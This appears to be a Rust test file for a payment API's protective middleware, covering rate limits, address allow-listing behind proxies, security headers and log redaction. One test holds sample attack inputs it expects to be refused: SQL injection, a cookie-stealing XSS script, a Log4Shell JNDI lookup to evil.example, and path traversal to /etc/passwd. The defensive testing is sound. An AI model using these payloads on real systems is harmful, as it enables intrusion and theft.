//! What stands before every handler.

use axum::body::Body;
use axum::http::{Method, Request};
use bezant_shield::address::{Field, Networks, Proxies};
use serde_json::json;

use super::world::{Answer, Call, World, answer, order, until};
use crate::auth::Peer;
use crate::{AttackRules, Per, Protection, RateLimit, Rates, router};

fn limit(name: &str, per: Per, quota: u32, routes: &[&str]) -> RateLimit {
    RateLimit {
        name: name.to_owned(),
        per,
        quota,
        window_seconds: 3_600,
        routes: routes.iter().map(|route| (*route).to_owned()).collect(),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn limits_count_each_for_itself_and_are_told() {
    let limits = vec![
        limit("place", Per::Address, 1_000, &[]),
        limit("payment", Per::Key, 2, &["/api/v1/payments/{id}"]),
        limit("reports", Per::Tenant, 3, &["/api/v1/ledger/trial-balance"]),
        limit("gateways", Per::Endpoint, 50, &["/api/v1/gateways"]),
    ];
    let world = World::behind(Protection {
        rates: Some(Rates::local(limits).unwrap()),
        ..Protection::default()
    })
    .await;
    let (first, second) = (world.full_key("shop").await, world.key("shop", &["read"]).await);
    let other = world.full_key("other").await;
    let path = "/api/v1/payments/pay_01h455vb4pex5vsknk084sn02q";
    let told = world.get(&first, path).await;
    assert_eq!(told.status, 404);
    let policy = told.header("ratelimit-policy").unwrap();
    assert_eq!(policy, "\"place\";q=1000;w=3600, \"payment\";q=2;w=3600");
    assert!(
        told.header("ratelimit").unwrap().contains("\"payment\";r=1;"),
        "{told:?}"
    );
    world.get(&first, path).await;
    let refused = world.get(&first, path).await;
    assert_eq!(refused.problem(), (429, "rate_limited"));
    let wait: u64 = refused.header("retry-after").unwrap().parse().unwrap();
    assert!((1..=1_800).contains(&wait), "{wait}");
    assert!(refused.header("ratelimit").unwrap().contains("\"payment\";r=0;"));
    assert_eq!(
        world.get(&second, path).await.status,
        404,
        "another key has its own"
    );

    for key in [&first, &second, &first] {
        assert_eq!(world.get(key, "/api/v1/ledger/trial-balance").await.status, 200);
    }
    let refused = world.get(&second, "/api/v1/ledger/trial-balance").await;
    assert_eq!(
        refused.problem(),
        (429, "rate_limited"),
        "a tenant's keys share it"
    );
    assert_eq!(
        world.get(&other, "/api/v1/ledger/trial-balance").await.status,
        200
    );

    // Anybody uses up what is counted by route alone, known or not.
    let mut statuses = Vec::new();
    for _ in 0..60 {
        statuses.push(world.get("bzk_nobody", "/api/v1/gateways").await.status.as_u16());
    }
    assert!(
        statuses.starts_with(&[401]) && statuses.ends_with(&[429]),
        "{statuses:?}"
    );
}

async fn from(world: &World, peer: &str, forwarded: &str) -> Answer {
    let mut request = Request::get("/ready").body(Body::empty()).unwrap();
    request.extensions_mut().insert(Peer {
        address: peer.parse().unwrap(),
        encrypted: true,
        certificate: None,
    });
    if !forwarded.is_empty() {
        request
            .headers_mut()
            .insert("x-forwarded-for", forwarded.parse().unwrap());
    }
    answer(router(world.edge.clone()), request).await
}

#[tokio::test(flavor = "multi_thread")]
async fn who_may_come_is_said_by_where_they_really_are() {
    let world = World::behind(Protection {
        proxies: Some(Proxies::new(
            Networks::parse(["10.0.0.0/8"]).unwrap(),
            Field::XForwardedFor,
        )),
        networks: Some(Networks::parse(["192.0.2.0/24"]).unwrap()),
        ..Protection::default()
    })
    .await;
    for (peer, forwarded, is_let_in) in [
        ("192.0.2.7", "", true),
        ("198.51.100.7", "", false),
        ("198.51.100.7", "192.0.2.7", false),
        ("10.1.1.1", "192.0.2.7", true),
        ("10.1.1.1", "192.0.2.7, 198.51.100.7", false),
        ("10.1.1.1", "", false),
        ("10.1.1.1", "nonsense", false),
    ] {
        let answer = from(&world, peer, forwarded).await;
        if is_let_in {
            assert_eq!(answer.status, 200, "{peer} {forwarded}");
        } else {
            assert_eq!(answer.problem(), (403, "address_refused"), "{peer} {forwarded}");
        }
        assert_eq!(
            answer.header("strict-transport-security"),
            Some("max-age=31536000")
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn attacks_are_refused_where_rules_are_enforced_and_told_where_they_are_not() {
    let attack = |note: &str| {
        let mut body = order(100, "tok_approved");
        body["reference"] = json!(note);
        body
    };
    let rules = |enforces| {
        World::behind(Protection {
            rules: Some(AttackRules::new(enforces, false, Vec::new())),
            ..Protection::default()
        })
    };
    let enforcing = rules(true).await;
    let key = enforcing.full_key("shop").await;
    let respond = [("prefer", "respond-async")];
    for note in [
        "1' OR '1'='1' --",
        "<script>alert(document.cookie)</script>",
        "${jndi:ldap://evil.example/a}",
    ] {
        let body = attack(note).to_string();
        let refused = enforcing
            .post_with(&key, "/api/v1/payments", &respond, body.as_bytes())
            .await;
        assert_eq!(refused.problem(), (403, "request_suspicious"), "{note}");
    }
    let traversal = enforcing
        .get(&key, "/api/v1/payments?cursor=..%2f..%2f..%2fetc%2fpasswd")
        .await;
    assert_eq!(traversal.problem(), (403, "request_suspicious"));
    for note in ["order 4711 for O'Brien", "Union Select Bank", "5 > 3 & 2 < 4"] {
        let body = attack(note).to_string();
        let taken = enforcing
            .post_with(&key, "/api/v1/payments", &respond, body.as_bytes())
            .await;
        assert!(taken.status.is_success(), "{note}: {taken:?}");
    }
    let telling = rules(false).await;
    let key = telling.full_key("shop").await;
    let body = attack("1' OR '1'='1' --").to_string();
    let taken = telling
        .post_with(&key, "/api/v1/payments", &respond, body.as_bytes())
        .await;
    assert!(taken.status.is_success(), "{taken:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn every_answer_tells_browsers_to_keep_and_show_nothing() {
    let world = World::idle(Default::default()).await;
    let key = world.full_key("shop").await;
    for path in [
        "/api/v1/payments",
        "/api/v1/nothing",
        "/ready",
        "/docs",
        "/openapi.json",
    ] {
        let answer = world
            .send(Call {
                method: Method::GET,
                path,
                headers: vec![("authorization", &format!("Bearer {key}"))],
                body: Vec::new(),
            })
            .await;
        for (name, value) in [
            ("x-content-type-options", "nosniff"),
            ("x-frame-options", "DENY"),
            ("referrer-policy", "no-referrer"),
        ] {
            assert_eq!(answer.header(name), Some(value), "{path}");
        }
        let policy = answer.header("content-security-policy").unwrap();
        assert!(policy.contains("frame-ancestors 'none'"), "{path}: {policy}");
        assert_eq!(
            answer.header("strict-transport-security"),
            None,
            "{path}: it came in the clear"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_access_log_says_who_asked_what_and_no_secret() {
    let world = World::new().await;
    let key = world.full_key("shop").await;
    let path = "/api/v1/payments/pay_01h455vb4pex5vsknk084sn02q?secret=hush";
    world.get(&key, path).await;
    world.get("bzk_nobody", path).await;
    let one = |status: u16| {
        let lines = world.lines.read().into_iter();
        lines.rev().find(|line| line["status"] == status)
    };
    until(|| one(404).is_some() && one(401).is_some()).await;
    let (known, unknown) = (one(404).unwrap(), one(401).unwrap());
    assert_eq!(known["route"], "/api/v1/payments/{id}");
    assert_eq!(
        (&known["method"], &known["listener"]),
        (&json!("GET"), &json!("public"))
    );
    assert!(known["tenant"].as_str().unwrap().starts_with("ten_"), "{known}");
    assert!(
        known["credential"].as_str().unwrap().starts_with("key_"),
        "{known}"
    );
    assert!(known["micros"].as_u64().unwrap() > 0 && known["bytes"].as_u64().unwrap() > 0);
    assert!(
        unknown["tenant"].is_null() && unknown["credential"].is_null(),
        "{unknown}"
    );
    let all = json!(world.lines.read()).to_string();
    assert!(!all.contains(&key) && !all.contains("hush"), "no secret is in it");
}
